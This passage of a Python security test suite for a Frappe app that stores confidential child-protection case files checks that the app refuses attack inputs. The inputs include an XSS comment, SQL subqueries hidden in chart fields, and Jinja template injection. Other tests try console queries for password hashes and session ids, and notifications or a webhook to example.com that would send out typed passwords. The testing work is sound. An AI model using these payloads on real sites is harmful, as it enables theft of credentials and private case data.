		``_comments``, which a Kanban card showed as markup (a quote written as \\" by JSON). The
		controls: the aandachtsfunctionaris finds her ToDo, the preview keeps the comment's words."""
		maker = staff_user("B", "Aandachtsfunctionaris")
		todo = as_user(maker)(
			lambda: frappe.get_doc(
				{
					"doctype": "ToDo",
					"description": "Taak bij het dossier",
					"allocated_to": maker,
					"reference_type": "Meldcode Dossier",
					"reference_name": self.dossier,
				}
			).insert()
		).name
		own_token = api_token(maker)
		frappe.db.commit()
		search = {
			"doctype": "ToDo",
			"txt": "",
			"ignore_user_permissions": 1,
			"as_dict": 1,
			"page_length": 500,
		}

		def found(token):
			status, answer = request_as(token, "frappe.desk.search.search_widget", "post", **search)
			self.assertEqual(status, 200, answer)
			return {row["name"] for row in answer}

		self.assertNotIn(todo, found(self.token))
		self.assertIn(todo, found(own_token), "the control: her own ToDo")

		note = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{"doctype": "Note", "title": f"Uitje {frappe.generate_hash(length=6)}"}
			).insert()
		)
		comment = '<img src="/files/nope.png" alt="x onerror=alert(1) y">Lees dit'
		as_user(SYSTEM_MANAGER)(note.add_comment, "Comment", comment)
		preview = frappe.db.get_value("Note", note.name, "_comments")
		self.assertNotIn("<img", preview)
		self.assertIn("Lees dit", preview, "the control: the comment's words")

	def test_a_printed_page_a_personal_data_request_and_a_redaction_stay_with_their_user(self):
		"""Round 166: Frappe keeps the whole page of a report printed to PDF in the Access Log,
		and a System Manager listed a case-team member's printed signals; she asked for that
		member's personal data (every comment and version, a case's included); and her user named
		"commentaar", deleted as personal data, rewrote a dossier's comment (Frappe's "strict"
		redaction has no WHERE). The controls: the printer, the user herself, her own rows."""
		maker = staff_user("B", "Aandachtsfunctionaris")
		printed, plain = (
			frappe.get_doc({"doctype": "Access Log", "user": maker, "method": "PDF", "page": page}).insert(
				ignore_permissions=True
			)
			for page in ("<table>Geheime signalen</table>", None)
		)
		listed = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_list("Access Log", {"name": ("in", [printed.name, plain.name])}, pluck="name")
		)
		self.assertEqual(listed, [plain.name], "the control: a row without a page is listed")
		self.assertFalse(frappe.has_permission("Access Log", "read", doc=printed, user=SYSTEM_MANAGER))

		request = {"doctype": "Personal Data Download Request"}
		self.assertRaises(
			frappe.PermissionError,
			as_user(SYSTEM_MANAGER),
			lambda: frappe.get_doc({**request, "user": maker}).insert(),
		)
		try:  # the control: one's own data
			as_user(SYSTEM_MANAGER)(lambda: frappe.get_doc({**request, "user": SYSTEM_MANAGER}).insert())
		except frappe.OutgoingEmailError:
			pass  # made, and Frappe mails its link: no mail account on a test site

		case_comment = frappe.get_doc(
			{
				"doctype": "Comment",
				"comment_type": "Comment",
				"reference_doctype": "Meldcode Dossier",
				"reference_name": self.dossier,
				"content": "Een commentaar in het dossier",
			}
		).insert(ignore_permissions=True)
		own_comment = as_user(SYSTEM_MANAGER)(
			lambda: frappe.get_doc(
				{"doctype": "Comment", "comment_type": "Info", "content": "Een commentaar van mij"}
			).insert(ignore_permissions=True)
		)
		deletion = frappe.new_doc("Personal Data Deletion Request")
		deletion.update({"email": SYSTEM_MANAGER, "name": "deleted-user-test"})
		deletion._PersonalDataDeletionRequest__set_anonymization_data(SYSTEM_MANAGER, "deleted-user-test")
		deletion.full_name = "commentaar"
		deletion._PersonalDataDeletionRequest__redact_partial_match_data(
			{"doctype": "Comment", "strict": True}
		)
		self.assertEqual(
			frappe.db.get_value("Comment", case_comment.name, "content"), "Een commentaar in het dossier"
		)
		self.assertEqual(
			frappe.db.get_value("Comment", own_comment.name, "content"),
			"Een REDACTED van mij",
			"the control: her own",
		)

	def test_a_template_reaches_no_case_through_the_apps_or_frappes_own_code(self):
		"""Round 8: a template called a whitelisted method (frappe.call into the app's chart
		override, whose heatmap reads past permissions) and an app controller's method."""

		def heatmap(doctype, field, value):
			chart = {
				"document_type": doctype,
				"type": "Heatmap",
				"chart_type": "Count",
				"based_on": "creation",
				"heatmap_year": frappe.utils.getdate().year,
				"filters_json": json.dumps([[doctype, field, "=", value]]),
			}
			return self.preview(
				"{{ frappe.call('frappe.desk.doctype.dashboard_chart.dashboard_chart.get', "
				f"chart='{json.dumps(chart).replace(chr(92), chr(92) * 2)}', no_cache=1) }}}}"
			)

		status, answer = heatmap("User", "name", SYSTEM_MANAGER)
		self.assertEqual(status, 200, answer)
		self.assertIn("dataPoints", json.dumps(answer), "the positive control: a harmless DocType is drawn")
		status, answer = heatmap("Meldcode Dossier", "school", SCHOOL_B)
		self.assertNotEqual(status, 200, answer)
		self.assertNotIn("dataPoints", json.dumps(answer))

		frappe.db.set_value("Meldcode Dossier", self.dossier, "workflow_state", "Help Organised")
		frappe.db.commit()
		try:
			self.preview(
				f"{{% set s = frappe.get_doc({{'doctype': 'Meldcode Signal', 'name': 'MS-MADE-UP', "
				f"'dossier': '{self.dossier}'}}) %}}{{{{ s.on_update() }}}}{{{{ frappe.db.commit() }}}}"
			)
			frappe.db.rollback()
			self.assertEqual(
				frappe.db.get_value("Meldcode Dossier", self.dossier, "workflow_state"), "Help Organised"
			)
		finally:
			frappe.db.set_value("Meldcode Dossier", self.dossier, "workflow_state", "Step 1 Signalling")
			frappe.db.commit()

	def test_what_a_template_stores_for_later_reads_no_case(self):
		"""Round 9: a template wrote a subquery on a case table into a chart of ToDo, which Frappe
		then ran, without any template, whenever the chart was asked for by name."""
		subquery = "(select count(*) from `tab' ~ 'Meldcode Dossier`)"
		frappe.db.delete("Dashboard Chart", {"name": ("like", "Meldcode Sandbox Chart%")})
		for name in ("Meldcode Sandbox Chart", "Meldcode Sandbox Chart Plain"):
			frappe.get_doc(
				{
					"doctype": "Dashboard Chart",
					"chart_name": name,
					"chart_type": "Sum",
					"type": "Line",
					"document_type": "ToDo",
					"based_on": "creation",
					"value_based_on": "priority" if name.endswith("Plain") else None,
					"timespan": "Last Year",
					"time_interval": "Monthly",
					"filters_json": "[]",
				}
			).insert(ignore_permissions=True)
		frappe.db.commit()
		try:
			self.preview(
				f"{{{{ frappe.db.set_value('Dashboard Chart', 'Meldcode Sandbox Chart', 'value_based_on', '{subquery}') }}}}"
				"{{ frappe.db.commit() }}"
			)
			frappe.db.rollback()
			self.assertIsNone(
				frappe.db.get_value("Dashboard Chart", "Meldcode Sandbox Chart", "value_based_on")
			)
			# Stored anyway (as a System Manager's console would): asked for by name, it is refused.
			frappe.db.set_value(
				"Dashboard Chart", "Meldcode Sandbox Chart", "value_based_on", subquery.replace("' ~ '", "")
			)
			frappe.db.commit()
			door = "frappe.desk.doctype.dashboard_chart.dashboard_chart.get"
			status, answer = self.call(door, chart_name="Meldcode Sandbox Chart Plain", refresh=1)
			self.assertEqual(status, 200, f"the positive control: a chart of plain fields: {answer}")
			status, answer = self.call(door, chart_name="Meldcode Sandbox Chart", refresh=1)
			self.assertEqual(status, 403, answer)
		finally:
			frappe.db.delete("Dashboard Chart", {"name": ("like", "Meldcode Sandbox Chart%")})
			frappe.db.commit()

	def test_a_stored_number_card_reads_no_case(self):
		"""Round 10: a number card's stored expression, run by its percentage by name, and written
		by a body Frappe read as JSON while it said to be a form."""
		door = "frappe.desk.doctype.number_card.number_card.get_percentage_difference"
		frappe.db.delete("Number Card", {"name": ("like", "Meldcode Sandbox Card%")})
		for name in ("Meldcode Sandbox Card", "Meldcode Sandbox Card Plain"):
			frappe.get_doc(
				{
					"doctype": "Number Card",
					"name": name,
					"label": name,
					"type": "Document Type",
					"document_type": "ToDo",
					"function": "Count",
					"show_percentage_stats": 1,
					"stats_time_interval": "Daily",
					"filters_json": "[]",
				}
			).insert(ignore_permissions=True)
		frappe.db.set_value(
			"Number Card",
			"Meldcode Sandbox Card",
			{
				"function": "Maximum",
				"aggregate_function_based_on": "(select count(*) from `tabMeldcode Dossier`)",
			},
		)
		frappe.db.commit()
		try:
			status, answer = self.call(
				door, doc={"name": "Meldcode Sandbox Card Plain"}, filters=[], result=1
			)
			self.assertEqual(status, 200, f"the positive control: a card of plain fields: {answer}")
			status, answer = self.call(door, doc={"name": "Meldcode Sandbox Card"}, filters=[], result=1)
			self.assertEqual(status, 403, answer)

			def put(value):
				# JSON as Frappe reads it; the "%22" made the guard's form-decoded copy no JSON at all.
				body = '{"aggregate_function_based_on": "' + value + '", "x": "%22"}'
				return self.call(
					"/api/resource/Number Card/Meldcode Sandbox Card Plain", "form-put", body=body
				)

			status, answer = put("priority")
			self.assertEqual(
				status, 200, f"the positive control: a field name through the same door: {answer}"
			)
			status, answer = put(r"(select count(*) from `tabMeldcode\u0020Dossier`)")
			self.assertEqual(status, 403, answer)
			frappe.db.rollback()
			self.assertEqual(
				frappe.db.get_value(
					"Number Card", "Meldcode Sandbox Card Plain", "aggregate_function_based_on"
				),
				"priority",
			)
		finally:
			frappe.db.delete("Number Card", {"name": ("like", "Meldcode Sandbox Card%")})
			frappe.db.commit()

	def test_a_kanban_board_on_a_case_record_tells_nothing(self):
		"""Round 9: a board's doors read a card's field and tell a right guess from a wrong one."""
		door = "frappe.desk.doctype.kanban_board.kanban_board.update_order"
		frappe.db.delete("Kanban Board", {"name": ("like", "Meldcode Sandbox Board%")})
		for name, doctype, field in (
			("Meldcode Sandbox Board", "Meldcode Dossier", "pupil_name"),
			("Meldcode Sandbox Board ToDo", "ToDo", "status"),
		):
			frappe.get_doc(
				{
					"doctype": "Kanban Board",
					"kanban_board_name": name,
					"reference_doctype": doctype,
					"field_name": field,
				}
			).insert(ignore_permissions=True)
		frappe.db.commit()
		try:
			status, answer = self.call(
				door, board_name="Meldcode Sandbox Board ToDo", order=json.dumps({"Open": []})
			)
			self.assertEqual(status, 200, f"the positive control: a board of ToDos: {answer}")
			status, answer = self.call(
				door, board_name="Meldcode Sandbox Board", order=json.dumps({PUPIL: [self.dossier]})
			)
			self.assertEqual(status, 403, answer)
		finally:
			frappe.db.delete("Kanban Board", {"name": ("like", "Meldcode Sandbox Board%")})
			frappe.db.commit()

	def test_a_print_format_of_the_site_reads_no_case(self):
		for name, doctype in ((FORMAT, DOSSIER), (FORMAT, SCHOOL)):
			frappe.db.delete("Print Format", {"name": name})
			frappe.db.commit()
			format = {
				"doctype": "Print Format",
				"name": name,
				"doc_type": "User",
				"module": "Core",
				"custom_format": 1,
				"print_format_type": "Jinja",
				"standard": "No",
				"html": f"<p>{{{{ frappe.get_all({doctype}, pluck='name') }}}} "
				f"{{{{ frappe.get_all({doctype}, fields=['*']) }}}}</p>",
			}
			# Round 15: a print format runs in other users' pages: the System Manager may not write
			# one; the bench's Administrator did, and the System Manager prints it.
			status, answer = self.call("frappe.client.insert", doc=format)
			self.assertEqual(status, 403, answer)
			frappe.get_doc(format).insert()
			frappe.db.commit()
			status, page = self.call("/printview", "get", doctype="User", name=SYSTEM_MANAGER, format=name)
			if doctype == SCHOOL:
				self.assertIn(SCHOOL_B, page, "the positive control: the same format on a harmless DocType")
			else:
				self.assertNotIn(PUPIL, page)
				self.assertNotIn(self.dossier, page)

	def test_a_web_page_shows_a_guest_no_case(self):
		def page_for_a_guest(route, doctype, field):
			frappe.get_doc(
				{
					"doctype": "Web Page",
					"title": route,
					"route": route,
					"published": 1,
					"dynamic_template": 1,
					"content_type": "HTML",
					"main_section_html": f"<p>{{{{ frappe.get_all({doctype}, pluck='{field}') }}}}</p>",
				}
			).insert(ignore_permissions=True)
			frappe.db.commit()
			client = get_test_client(
				use_cookies=False
			)  # a guest, in a thread of its own as Frappe's tests do
			return make_request(target=client.get, args=(f"/{route}",)).get_data(as_text=True)

		self.assertTrue(SCHOOL_B in page_for_a_guest(PAGE_ROUTE, SCHOOL, "name"), "the positive control")
		self.assertFalse(PUPIL in page_for_a_guest(f"{PAGE_ROUTE}-2", DOSSIER, "pupil_name"))

	def test_the_console_and_a_query_report_run_no_sql_on_a_case(self):
		def console(sql):
			status, answer = self.call(
				"frappe.desk.doctype.system_console.system_console.execute_code",
				doc=json.dumps({"doctype": "System Console", "type": "SQL", "console": sql}),
			)
			return json.dumps(answer)

		self.assertIn(SCHOOL_B, console("select name from `tabMeldcode School`"), "the positive control")
		self.assertNotIn(PUPIL, console("select pupil_name from `tabMeldcode Dossier`"))
		self.assertNotIn(PUPIL, console("select data from `tabVersion`"))
		# Round 12: a session id read here was a logged-in director's account.
		self.assertNotIn("sid", console("select user, sid from tabSessions"))
		self.assertNotIn("password", console("select name, password from __Auth"))
		# Round 67: every connection's running statement (a case's comment, a login's password).
		for sql in ("select id, info from information_schema.processlist", "show full processlist"):
			output = json.loads(console(sql)).get("output") or ""
			self.assertNotIn('"info"', output.lower(), f"{sql}: {output[:300]}")
			self.assertIn("PermissionError", output, sql)
		# Round 68: the catalogue told each case table's row count and last change, past "< 5".
		catalogue = json.loads(
			console(
				"select table_name, table_rows, update_time from information_schema.tables"
				" where table_name like 'tabMeld%'"
			)
		).get("output")
		self.assertNotIn("tabMeldcode", catalogue or "")
		self.assertIn("PermissionError", catalogue or "")
		frappe.get_doc(
			{
				"doctype": "Report",
				"report_name": REPORT,
				"ref_doctype": "ToDo",
				"report_type": "Query Report",
				"is_standard": "No",
				"module": "Core",
				"query": "select pupil_name from `tabMeldcode Dossier`",
			}
		).insert(ignore_permissions=True)
		frappe.db.commit()
		status, answer = self.call("frappe.desk.query_report.run", report_name=REPORT)
		self.assertNotIn(PUPIL, json.dumps(answer))
		self.assertNotEqual(status, 200)

	def test_a_server_script_reads_no_case(self):
		watch_database()
		try:
			with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
				found, _locals = safe_exec("schools = frappe.get_all('Meldcode ' + 'School', pluck='name')")
				self.assertIn(SCHOOL_B, found["schools"], "the positive control")
				with self.assertRaises(frappe.PermissionError):
					safe_exec("x = frappe.get_all('Meldcode ' + 'Dossier', pluck='pupil_name')")
				with self.assertRaises(frappe.PermissionError):
					safe_exec("x = frappe.db.sql('select data from tabVersion')")
				# Round 68: the catalogue (each case table's row count), also built with frappe.qb.
				built, _locals = safe_exec(
					"schools = frappe.qb.from_('Meldcode School').select('name').run()"
				)
				self.assertIn(SCHOOL_B, str(built["schools"]), "the positive control")
				for script in (
					"t = frappe.qb.Schema('information_schema').tables\nx = frappe.qb.from_(t).select(t.table_rows).run()",
					"x = frappe.db.sql('select table_rows from information_schema.tables')",
				):
					with self.assertRaises(frappe.PermissionError, msg=script):
						safe_exec(script)
				# An ordinary document a script saves leaves its own traces (found refused: a
				# script could not save a note, add a ToDo or log an error), none of a case record.
				safe_exec(
					"n = frappe.get_doc({'doctype': 'Note', 'title': 'Rooster'}).insert(); n.content = 'x'; n.save()\n"
					"frappe.get_doc({'doctype': 'ToDo', 'description': 'Bellen'}).insert()\n"
					"frappe.log_error('Gewone fout')"
				)
				for spelling in ("Meldcode Dossier", "meldcode dossíer"):
					trace = {"doctype": "Version", "ref_doctype": spelling, "docname": "MD-0", "data": "{}"}
					with self.assertRaises(frappe.PermissionError, msg=spelling):
						safe_exec(f"frappe.get_doc({trace!r}).insert(ignore_links=True)")
				# Who holds which function where: a script would hand out access itself.
				for script in (
					"frappe.db.set_value('Meldcode Access ' + 'Grant', {'status': 'Pending'}, 'status', 'Active')",
					"frappe.db.sql('update `tabHas Role` set role = %s where 1 = 0', ('Meldcode Director',))",
				):
					with self.assertRaises(frappe.PermissionError):
						safe_exec(script)
			# A condition (a workflow transition's, evaluated with frappe.db.get_value at hand).
			conditions = {"frappe": frappe._dict(db=frappe._dict(get_value=frappe.db.get_value))}
			expression = "frappe.db.get_value('Meldcode ' + TARGET, {}, 'name')"
			self.assertTrue(frappe.safe_eval(expression.replace("TARGET", "'School'"), conditions))
			with self.assertRaises(frappe.PermissionError):
				frappe.safe_eval(expression.replace("TARGET", "'Dossier'"), conditions)
		finally:
			frappe.local.meldcode_other_apps = None
			del frappe.db.sql, frappe.db.meldcode_watched  # back to the connection's own

	def test_no_automation_or_customisation_acts_on_a_case(self):
		def insert(doc):
			frappe.db.rollback()
			status, answer = request_as(self.token, "frappe.client.insert", "post", doc=doc)
			if status == 200:
				frappe.db.delete(doc["doctype"], {"name": answer["name"]})
				frappe.db.commit()
			return status, str(answer)

		notification = {
			"doctype": "Notification",
			"name": "Meldcode Sandbox Notification",
			"subject": "x",
			"event": "Save",
			"channel": "System Notification",
			"message": "{{ doc.name }}",
			"recipients": [{"receiver_by_document_field": "owner"}],
		}
		self.assertEqual(insert({**notification, "document_type": "ToDo"})[0], 200, "the positive control")
		for target in (
			"Meldcode Dossier",
			"Meldcode Dossíer",
			"meldcode dossier",
			"Version",
			"Meldcode Signal",
		):
			status, answer = insert({**notification, "document_type": target})
			self.assertNotEqual(status, 200, target)
			self.assertIn("Meldcode", answer, target)  # refused for what it acts on, not a missing field
		refused = [
			{
				"doctype": "Webhook",
				"webhook_doctype": "Meldcode Signal",
				"webhook_docevent": "on_update",
				"request_url": "http://127.0.0.1:9/",
				"request_structure": "Form URL-Encoded",
			},
			{
				"doctype": "Custom Field",
				"dt": "ToDo",
				"fieldname": "meldcode_dossier",
				"label": "Dossier",
				"fieldtype": "Link",
				"options": "Meldcode Dossier",
			},
			{
				"doctype": "Property Setter",
				"doctype_or_field": "DocField",
				"doc_type": "Meldcode Dossier",
				"field_name": "pupil_name",
				"property": "hidden",
				"value": "1",
				"property_type": "Check",
			},
			{"doctype": "Client Script", "dt": "Meldcode Dossier", "script": "console.log(1)", "enabled": 1},
			{  # round 42: Frappe looks a currency's "DocType:link:column" up unchecked
				"doctype": "Custom Field",
				"dt": "Note",
				"fieldname": "meldcode_bedrag",
				"label": "Bedrag",
				"fieldtype": "Currency",
				"options": "Meldcode Dossier:title:pupil_name",
			},
			{
				"doctype": "Assignment Rule",
				"document_type": "Meldcode Dossier",
				"rule": "Round Robin",
				"assign_condition": "1",
				"users": [{"user": SYSTEM_MANAGER}],
			},
		]
		for doc in refused:
			status, answer = insert(doc)
			self.assertNotEqual(status, 200, doc["doctype"])
			self.assertIn("Meldcode", answer, doc["doctype"])

	def test_a_template_or_script_reads_nothing_of_the_request_it_runs_in(self):
		"""Round 94: a System Manager's Notification on Activity Log, rendered in every login, read
		the password from the request's body and sent it out (a cookie would have followed); round
		95: Frappe logs a user in before the app's auth_hooks run, so a new process's first login
		still gave it away, and in any login the notification read the case tables. Stored
		templates and scripts see no request, arguments, answer or token of the request they run
		in, and no case table, from a process's first document on. The same template shows the
		record it is about and reads a school (the controls), a www page of an app still reads its
		arguments, and the console those of its own request."""
		colleague = staff_user("B", "Aandachtsfunctionaris")
		notification = {
			"doctype": "Notification",
			"name": "Meldcode Sandbox Login",
			"document_type": "Activity Log",
			"event": "New",
			"channel": "System Notification",
			"enabled": 1,
			"subject": "Gezien: {{ doc.user }} | {{ frappe.request.data }} | {{ frappe.form_dict }}",
			"message": "{{ frappe.request.form }} | {{ frappe.request.cookies }} | {{ frappe.request.headers }}"
			" | {{ frappe.request.environ }} | {{ frappe.request }} | {{ args }} | {{ frappe.response }}"
			" | {{ frappe.session.csrf_token }} | {{ frappe.call('frappe.auth.get_logged_user') }}",
			"recipients": [{"receiver_by_role": "System Manager"}],
		}
		status, answer = self.call("frappe.client.insert", doc=notification)
		self.assertEqual(status, 200, answer)
		logs = "frappe.desk.doctype.notification_log.notification_log.make_notification_logs"

		def forget():
			frappe.db.delete("Notification Log", {"subject": ("like", "Gezien: %")})
			for job in queued_jobs(logs):
				job.delete()
			frappe.db.commit()

		self.addCleanup(forget)
		self.addCleanup(
			frappe.delete_doc, "Notification", notification["name"], ignore_permissions=True, force=True
		)

		def told() -> list[str]:
			frappe.db.rollback()
			fields = ("subject", "email_content")
			texts = [[job.kwargs["kwargs"]["doc"][field] for field in fields] for job in queued_jobs(logs)]
			texts += frappe.get_all(
				"Notification Log", {"subject": ("like", "Gezien: %")}, fields, as_list=True
			)
			return [" ".join(text or "" for text in row) for row in texts]

		for login in (login_in_a_new_process, login_in_this_process):
			forget()
			self.assertEqual(login(colleague, PASSWORD), 200, login.__name__)
			seen = [text for text in told() if text.startswith(f"Gezien: {colleague} |")]
			self.assertTrue(seen, f"the control, {login.__name__}: rendered in the login: {told()}")
			for text in seen:
				for secret in (PASSWORD, "pwd", "usr", "sid", "Cookie", "HTTP_", "login"):
					self.assertNotIn(secret, text, login.__name__)
		# what a login's template reads of the database: a school (the control), and no case
		for table in ("School", "Dossier"):
			status, answer = self.call(
				"frappe.client.set_value",
				doctype="Notification",
				name=notification["name"],
				fieldname="message",
				# spelled in parts, as a request that sent the statement itself is refused
				value="{% set t = 'tabMeld' ~ 'code "
				+ table
				+ "' %}{{ frappe.db.sql('sel' ~ 'ect * fr' ~ 'om `' ~ t ~ '`') }}",
			)
			self.assertEqual(status, 200, answer)
			forget()
			response = make_request(
				target=get_test_client(use_cookies=False).post,
				args=("/api/method/login",),
				kwargs={"data": {"usr": colleague, "pwd": PASSWORD}},
			)
			if table == "School":
				self.assertEqual(response.status_code, 200, response.get_data(as_text=True)[:500])
				self.assertTrue(
					[text for text in told() if SCHOOL_B in text], "the control: a school is read"
				)
			self.assertNotIn(PUPIL, response.get_data(as_text=True))
			self.assertFalse([text for text in told() if PUPIL in text])
		# the code the apps ship reads the request: a www page its arguments
		page = make_request(  # in a thread of its own, as Frappe's own tests ask
			target=get_test_client(use_cookies=False).get,
			args=("/search?scope=proefbereik",),
			kwargs={"headers": {"Host": frappe.local.site}},
		)
		self.assertIn('value="proefbereik"', page.get_data(as_text=True))
		# the console answers its own request: its arguments, but no request
		with patch("frappe.utils.safe_exec.is_safe_exec_enabled", return_value=True):
			status, answer = self.call(
				"frappe.desk.doctype.system_console.system_console.execute_code",
				doc=json.dumps(
					{
						"doctype": "System Console",
						"type": "Python",
						"console": "print(sorted(frappe.form_dict), frappe.request)",
					}
				),
			)
		output = (answer or {}).get("output") or ""
		self.assertIn("'doc'", output, answer)
		self.assertTrue(output.strip().endswith("] {}"), answer)

	def test_no_automation_reads_a_password_as_typed(self):
		"""Round 94: a Notification on User's ``before_validate`` showed a System Manager the
		password a colleague typed (a Server Script before the save would too); round 95: on User's
		save too, which keeps it, and a webhook would. The same on a DocType without passwords is
		set up as before (the control)."""
		base = {
			"doctype": "Notification",
			"channel": "System Notification",
			"enabled": 1,
			"subject": "Nieuw wachtwoord {{ doc.new_password }}",
			"recipients": [{"receiver_by_role": "System Manager"}],
		}
		for name, doctype, event, allowed in (
			("Meldcode Sandbox Password", "User", "Method", False),
			("Meldcode Sandbox Password 2", "uSer", "Method", False),
			# round 95: User keeps the typed password through its save (doc.get("_User__new_password"))
			("Meldcode Sandbox User Saved", "User", "Save", False),
			("Meldcode Sandbox Note", "Note", "Method", True),
			("Meldcode Sandbox Contact Saved", "Contact", "Save", True),
		):
			doc = {**base, "name": name, "document_type": doctype, "event": event}
			if event == "Method":
				doc["method"] = "before_validate"
			self.addCleanup(frappe.db.commit)  # cleanups run last added first
			self.addCleanup(frappe.db.delete, "Notification", {"name": name})
			self.addCleanup(frappe.db.delete, "Notification Recipient", {"parent": name})
			status, answer = self.call("frappe.client.insert", doc=doc)
			self.assertEqual(status, 200 if allowed else 403, f"{name}: {answer}")
		webhook = {
			"doctype": "Webhook",
			"webhook_doctype": "User",
			"webhook_docevent": "on_update",
			"request_url": "https://example.com/wachtwoord",
			"webhook_json": '{"w": "{{ doc.get(\'_User__new_password\') }}"}',
			"request_structure": "JSON",
		}
		for doctype, allowed in (("User", False), ("Note", True)):
			named = {**webhook, "name": f"Meldcode Sandbox {doctype}", "webhook_doctype": doctype}
			status, answer = self.call("frappe.client.insert", doc=named)
			self.assertEqual(status, 200 if allowed else 403, f"a webhook on {doctype}: {answer}")
			if allowed:
				self.addCleanup(frappe.db.commit)
				self.addCleanup(
					frappe.delete_doc, "Webhook", answer["name"], ignore_permissions=True, force=True
				)
		# Round 97: a naming rule, or an autoname, named a new account after its typed password
		for doc, allowed in (
			(
				{"doctype": "Document Naming Rule", "document_type": "User", "prefix": "{new_password}.-"},
				False,
			),
			(
				{
					"doctype": "Document Naming Rule",
					"document_type": "Webhook",
					"prefix": "{webhook_secret}.-",
				},
				False,
			),
			({"doctype": "Document Naming Rule", "document_type": "Note", "prefix": "NOTITIE-.-"}, True),
			(
				{
					"doctype": "Property Setter",
					"doctype_or_field": "DocType",
					"doc_type": "Email Account",
					"property": "autoname",
					"property_type": "Data",
					"value": "format:{password}",
				},
				False,
			),
		):
			status, answer = self.call("frappe.client.insert", doc=doc)
			if status == 200:
				self.addCleanup(frappe.clear_cache)
				self.addCleanup(frappe.db.commit)
				self.addCleanup(frappe.db.delete, doc["doctype"], {"name": answer["name"]})
			self.assertEqual(status, 200 if allowed else 403, f"{doc}: {answer}")
			if not allowed:
				self.assertIn("password", str(answer), "refused for the password it would read")
		# Round 96: a virtual field's options are Python run at each read of the record, also in
		# the save (the app's own look at it): one on User sent a colleague's typed password out
		virtual = {
			"doctype": "Custom Field",
			"dt": "User",
			"fieldname": "meldcode_proef_virtueel",
			"label": "Proef",
			"fieldtype": "Data",
			"is_virtual": 1,
			"insert_after": "email",
		}
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Custom Field", {"fieldname": virtual["fieldname"]})
		# the control on Note: Frappe's core DocTypes, User among them, take no custom field (round 193)
		for dt, options, status in (("User", "doc.get('new_password')", 403), ("Note", "", 200)):
			answer = self.call(
				"frappe.client.insert",
				doc={
					**virtual,
					"dt": dt,
					"insert_after": "title" if dt == "Note" else "email",
					"options": options,
				},
			)
			self.assertEqual(answer[0], status, answer)
		# one written before the rule loses its code in the upgrade; the bench Administrator's keeps it
		from meldcode_app.patches import virtual_fields_of_others_run_no_code

		frappe.db.rollback()
		for fieldname, writer in (
			("meldcode_proef_ouder", SYSTEM_MANAGER),
			("meldcode_proef_beheer", "Administrator"),
		):
			field = frappe.get_doc({**virtual, "fieldname": fieldname, "options": "doc.name"})
			field.modified_by = field.owner = writer
			field.creation = field.modified = frappe.utils.now()
			field.db_insert()
			self.addCleanup(frappe.db.delete, "Custom Field", {"name": field.name})
		virtual_fields_of_others_run_no_code.execute()
		self.assertEqual(frappe.db.get_value("Custom Field", "User-meldcode_proef_ouder", "options"), "")
		self.assertEqual(
			frappe.db.get_value("Custom Field", "User-meldcode_proef_beheer", "options"), "doc.name"
		)
		frappe.db.rollback()
		frappe.clear_cache(doctype="User")
		# one stored before the rule is switched off by the upgrade; the one on Note stays on
		from meldcode_app.patches import automations_off_typed_passwords

		frappe.db.rollback()
		older = frappe.get_doc({**base, "name": "Meldcode Sandbox Password", "document_type": "User"})
		older.update({"event": "Method", "method": "before_validate"})
		older.owner, older.creation = SYSTEM_MANAGER, frappe.utils.now()
		older.db_insert()  # as stored before the app refused it
		automations_off_typed_passwords.execute()
		self.assertEqual(frappe.db.get_value("Notification", older.name, "enabled"), 0)
		self.assertEqual(frappe.db.get_value("Notification", "Meldcode Sandbox Note", "enabled"), 1)

	def test_the_naming_preview_fills_a_series_from_what_its_reader_may_list(self):
		"""Round 98: Document Naming Settings' preview filled "{ref_doctype}.{docname}.{data}" from
		the newest Version, read past every permission: a System Manager read a signal's text
		before and after a change. The newest record the reader may list fills it (the control: a
		note's Version)."""
		note = frappe.get_doc({"doctype": "Note", "title": "Meldcode naamvoorbeeld"}).insert(
			ignore_permissions=True
		)
		# the site's newest two, whatever else requests leave (and whatever a test's clock says)
		for days, doctype, name in ((3650, "Note", note.name), (3651, "Meldcode Signal", self.signal.name)):
			version = frappe.get_doc(
				{"doctype": "Version", "ref_doctype": doctype, "docname": name, "data": '{"changed": []}'}
			).insert(ignore_permissions=True)
			later = frappe.utils.add_days(frappe.utils.now_datetime(), days)
			frappe.db.set_value("Version", version.name, "creation", later, update_modified=False)
		frappe.db.commit()
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.db.delete, "Version", {"docname": ("in", (note.name, self.signal.name))})
		self.addCleanup(frappe.db.delete, "Note", {"name": note.name})
		settings = {
			"doctype": "Document Naming Settings",
			"name": "Document Naming Settings",
			"modified": str(frappe.get_single("Document Naming Settings").modified),
			"transaction_type": "Version",
			"try_naming_series": "X-.{ref_doctype}.-.{docname}.-.#",
		}
		status, answer = self.call("run_doc_method", method="preview_series", docs=json.dumps(settings))
		self.assertEqual(status, 200, answer)
		self.assertIn(f"X-Note-{note.name}", str(answer), "the control: the newest version it may read")
		self.assertNotIn(self.signal.name, str(answer))
		self.assertNotIn("Meldcode", str(answer))
		# Round 98: a DocType made in the desk named after its own password field
		vault = {
			"doctype": "DocType",
			"name": "Meldcode Proefkluis",
			"module": "Custom",
			"custom": 1,
			"autoname": "format:K-{geheim}",
			"fields": [{"fieldname": "geheim", "fieldtype": "Password", "label": "Geheim"}],
			"permissions": [{"role": "System Manager", "read": 1, "write": 1, "create": 1}],
		}
		self.addCleanup(frappe.db.commit)
		self.addCleanup(frappe.delete_doc_if_exists, "DocType", vault["name"], force=True)
		for autoname, status in (("format:K-{geheim}", 403), ("hash", 200)):
			answer = self.call("frappe.client.insert", doc={**vault, "autoname": autoname})
			self.assertEqual(answer[0], status, answer)

	def test_counts_by_a_column_read_only_what_their_reader_may_list(self):
		"""Round 99: Frappe's workflow state count grouped every record of the DocType the request
		names by a column it names (with get_all): any account read each Version's text and each
		case ToDo's. The goal graph summed a column of every record month by month. The records
		their reader may list are counted (the control: a note's Version)."""
		note = frappe.get_doc({"doctype": "Note", "title": "Meldcode telling"}).insert(
			ignore_permissions=True
		)
		todo = frappe.get_doc(
			{
				"doctype": "ToDo",
				"description": "Termijn van het geheime dossier",
				"reference_type": "Meldcode Dossier",
				"reference_name": self.dossier,
			}
		).insert(ignore_permissions=True)
		for doctype, name, text in (
			("Note", note.name, "Zichtbare wijziging"),
			("Meldcode Signal", self.signal.name, "Geheime wijziging"),
		):
